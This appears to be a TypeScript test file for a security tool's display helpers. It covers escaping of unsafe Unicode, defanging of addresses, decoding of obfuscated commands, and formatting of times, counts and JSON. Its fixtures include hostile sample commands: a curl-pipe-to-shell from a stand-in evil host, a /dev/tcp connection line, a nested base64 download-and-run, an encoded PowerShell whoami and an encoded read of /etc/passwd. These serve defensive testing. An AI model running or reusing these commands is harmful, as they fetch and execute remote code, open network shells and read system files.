import { expect, test } from 'vitest';
import { plural } from '#shared/base/counts.ts';
import { defang } from '#shared/base/defang.ts';
import { decodeText } from './decode.ts';
import { hasUnsafe, textParts, visibleText } from './hostile.ts';
import { compactCount, formatBytes, formatShare } from './number.ts';
import { prettyJson } from './pretty-json.ts';
import { between, exactTime, formatSpan, formatTime, relativeTime } from './time.ts';
import { prevalenceWords, warmUpWords } from './words.ts';

test.each([
  ['a\u001b[31mred', 'a\\e[31mred'],
  ['invoice\u202egpj.exe', 'invoice\\u{202e}gpj.exe'],
  ['a\u200bb\u00adc', 'a\\u{200b}b\\xadc'],
  ['tab\tand\nbreak\r', 'tab\\tand\\nbreak\\r'],
  ['non\u00a0breaking', 'non\\xa0breaking'],
  ['tag\u{e0041}', 'tag\\u{e0041}'],
  ['lone \ud800 half', 'lone \\u{d800} half'],
  ['héllo 日本 👩 <b>', 'héllo 日本 👩 <b>'],
])('%j is shown as %s', (text, shown) => {
  expect(visibleText(text)).toBe(shown);
  expect(
    textParts(text)
      .map((part) => part.text)
      .join(''),
  ).toBe(shown);
  expect(hasUnsafe(text)).toBe(shown !== text);
});

test('addresses are defanged where they are addresses', () => {
  expect(defang('curl -fsS https://evil.example.com/a.sh|sh')).toBe('curl -fsS hxxps[:]//evil[.]example[.]com/a.sh|sh');
  expect(defang('cat <&3 /dev/tcp/203.0.113.66/443')).toBe('cat <&3 /dev/tcp/203[.]0[.]113[.]66/443');
  expect(defang('python3.11 app.py v1.2.3.4.5 1.2')).toBe('python3.11 app.py v1.2.3.4.5 1.2');
});

const base64 = (text: string): string => btoa(text);

test('base64 is decoded, two levels deep', () => {
  const inner = base64('curl http://203.0.113.9/x | sh');
  const [outer] = decodeText(`bash -c {echo,${base64(`echo ${inner} | base64 -d | bash`)}}|{base64,-d}|bash`);
  expect(outer?.encoding).toBe('base64');
  expect(outer?.inner.map(({ text }) => text)).toEqual(['curl http://203.0.113.9/x | sh']);
});

test('UTF-16, hexadecimal and percent escapes are decoded', () => {
  const wide = base64(Array.from('whoami /all', (letter) => `${letter}\0`).join(''));
  expect(decodeText(`pwsh -enc ${wide}`).map(({ encoding, text }) => [encoding, text])).toEqual([
    ['base64 (UTF-16)', 'whoami /all'],
  ]);
  expect(decodeText('printf \\x69\\x64\\x20\\x2d\\x75')[0]?.text).toBe('id -u');
  expect(decodeText('php -r cmd=cat%20%2Fetc%2Fpasswd')[0]).toMatchObject({
    encoding: 'URL',
    text: 'cmd=cat /etc/passwd',
  });
});

test.each([
  '/usr/bin/file -b --mime-type /var/lib/uploads',
  'git rev-parse 9fceb02d0ae598e95dc970b74767f19372d61af8',
  '',
])('%s has nothing encoded in it', (text) => {
  expect(decodeText(text)).toEqual([]);
});

test('times show their zone, spans their two largest units', () => {
  expect(formatTime('2026-11-21T20:15:13.002Z', 'utc')).toBe('2026-11-21 20:15:13');
  expect(exactTime('2026-11-21T20:15:13.002Z', 'utc')).toBe('2026-11-21 20:15:13.002 UTC');
  expect(formatTime('whenever', 'utc')).toBe('whenever');
  expect([340, 12_000, 61_000, 3_600_000, 97 * 3_600_000].map(formatSpan)).toEqual([
    '340 ms',
    '12 s',
    '1 min 1 s',
    '1 h',
    '4 d 1 h',
  ]);
  expect(relativeTime('2026-11-21T20:00:00Z', Date.UTC(2026, 10, 21, 20, 5))).toBe('5 min ago');
  expect(between('2026-11-21T20:00:00Z', null)).toBeNull();
});

test('counts, shares and sizes', () => {
  expect([compactCount(9_999), compactCount(12_418), compactCount(3_100_000)]).toEqual(['9,999', '12.4k', '3.1M']);
  expect([formatShare(0.004), formatShare(0.12), formatShare(0)]).toEqual(['<1 %', '12 %', '0 %']);
  expect([formatBytes(999), formatBytes(240_626_172)]).toEqual(['999 B', '241 MB']);
  expect([plural(1, 'host'), plural(0, 'host'), plural(2, 'process', 'processes')]).toEqual([
    '1 host',
    '0 hosts',
    '2 processes',
  ]);
});

test('rarity in words needs a fleet to compare with', () => {
  expect(prevalenceWords(1, 200)).toBe('1 of 200 hosts, rare');
  expect(prevalenceWords(1, 1)).toBe('1 of 1 host');
  expect(warmUpWords(0.129)).toBe('history 12 %: new may only mean early');
  expect(warmUpWords(0.95)).toBeNull();
  expect(warmUpWords(1)).toBeNull();
});

test('a record is laid out without being rewritten', () => {
  expect(prettyJson('{"a":1.0,"b":["x,{}",{}],"a":2e400}')).toBe(
    '{\n  "a": 1.0,\n  "b": [\n    "x,{}",\n    {}\n  ],\n  "a": 2e400\n}',
  );
  expect(prettyJson('not json {')).toBe('not json {');
});
